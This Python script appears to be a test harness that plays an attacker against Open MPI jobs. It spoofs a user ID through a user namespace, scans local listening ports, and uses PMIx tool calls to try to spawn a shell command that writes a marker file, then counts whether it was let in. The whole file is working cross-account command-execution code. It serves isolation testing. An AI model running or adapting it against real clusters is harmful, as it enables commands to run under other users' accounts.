"""Another account that attacks the jobs of a machine through Open MPI's sockets, until it is told.

``python pmix_attacker.py LIBPMIX CLAIMED MARK``, started by root, becomes the stranger. It tries,
again and again, each port on which somebody listens: it connects, and as a tool of PMIx that claims
to be of the account CLAIMED it asks for a program that writes MARK. It ends with its standard
input, and prints how often it was let in, kept out, and so on.
"""

from __future__ import annotations

import ctypes
import encodings.idna  # noqa: F401 - which the stranger may not read
import json
import os
import select
import signal
import socket
import sys
from collections import Counter
from pathlib import Path

STRANGER = 65534
HOST = "127.0.0.1"
PATIENCE_S = 0.2
FIRST_PORT = 32768
"""MPI's own ports, which the ranks open, are lower; they run no commands."""
_NEW_USER_NAMESPACE = 0x10000000
_DUMPABLE = 4
_STRING = 3


class _Process(ctypes.Structure):
    _fields_ = (("nspace", ctypes.c_char * 256), ("rank", ctypes.c_uint32))


class _Info(ctypes.Structure):
    _fields_ = (
        ("key", ctypes.c_char * 512),
        ("flags", ctypes.c_uint32),
        ("type", ctypes.c_uint16),
        ("value", ctypes.c_uint64 * 3),
    )


class _Program(ctypes.Structure):
    _fields_ = (
        ("command", ctypes.c_char_p),
        ("arguments", ctypes.POINTER(ctypes.c_char_p)),
        ("environment", ctypes.c_void_p),
        ("folder", ctypes.c_char_p),
        ("processes", ctypes.c_int),
        ("info", ctypes.c_void_p),
        ("infos", ctypes.c_size_t),
    )


def _become(claimed: int) -> None:
    """Become the stranger, in a user namespace where its number is the claimed one."""
    os.setgroups([])
    os.setgid(STRANGER)
    os.setuid(STRANGER)
    library = ctypes.CDLL(None, use_errno=True)
    library.prctl(_DUMPABLE, 1, 0, 0, 0)
    if library.unshare(_NEW_USER_NAMESPACE):
        raise OSError(ctypes.get_errno(), "no user namespace")
    for name, text in (
        ("setgroups", "deny"),
        ("uid_map", f"{claimed} {STRANGER} 1"),
        ("gid_map", f"{claimed} {STRANGER} 1"),
    ):
        Path("/proc/self", name).write_text(text)


def _ports() -> set[int]:
    """Return the ports on which somebody listens here."""
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            local, _, state = line.split()[1:4]
            if state == "0A":
                found.add(int(local.rpartition(":")[2], 16))
    return {port for port in found if port >= FIRST_PORT}


def _connect(port: int) -> str:
    """Tell what becomes of a connection."""
    try:
        with socket.create_connection((HOST, port), PATIENCE_S) as connection:
            connection.recv(1)
    except TimeoutError:
        return "open"
    except OSError:
        return "refused"
    return "closed"


def _spawn(library: ctypes.CDLL, port: int, mark: str) -> str:
    """Ask for a program, in a process of its own; tell whether PMIx let it in."""
    child = os.fork()
    if not child:
        signal.alarm(1)
        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
        info, own = _Info(), _Process()
        library.PMIx_Info_load(
            ctypes.byref(info),
            b"pmix.srvr.uri",
            f"prterun-x@0.0;tcp4://{HOST}:{port}".encode(),
            _STRING,
        )
        if library.PMIx_tool_init(ctypes.byref(own), ctypes.byref(info), ctypes.c_size_t(1)):
            os._exit(1)
        arguments = (ctypes.c_char_p * 4)(b"sh", b"-c", f"id -u > {mark}".encode(), None)
        program = _Program(b"/bin/sh", arguments, None, b"/", 1, None, 0)
        name = ctypes.create_string_buffer(256)
        library.PMIx_Spawn(
            None, ctypes.c_size_t(0), ctypes.byref(program), ctypes.c_size_t(1), name
        )
        os._exit(0)
    return "kept out" if os.waitpid(child, 0)[1] else "let in"


def _main(path: str, claimed: str, mark: str) -> None:
    library = ctypes.CDLL(path)
    known = _ports()
    _become(int(claimed))
    print("ready", flush=True)
    found: Counter[str] = Counter()
    while not select.select([sys.stdin], [], [], 0.001)[0]:
        for port in _ports() - known:
            found[_connect(port)] += 1
            found[_spawn(library, port, mark)] += 1
    print(json.dumps(found))


if __name__ == "__main__":
    _main(*sys.argv[1:])
